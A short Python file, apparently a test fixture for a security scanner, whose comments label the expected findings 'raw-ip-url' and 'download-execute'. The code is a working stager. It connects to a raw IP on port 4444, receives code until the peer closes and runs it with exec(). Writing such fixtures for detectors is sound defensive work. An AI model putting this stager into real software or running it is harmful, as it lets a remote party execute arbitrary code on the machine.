# ruff: noqa
# fmt: off
"""A raw socket receives code until the peer closes, then executes it."""
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("45.61.139.12", 4444))  # expect: raw-ip-url
chunks = []
while True:
    part = s.recv(4096)
    if not part:
        break
    chunks.append(part)
exec(b"".join(chunks).decode())  # expect: download-execute
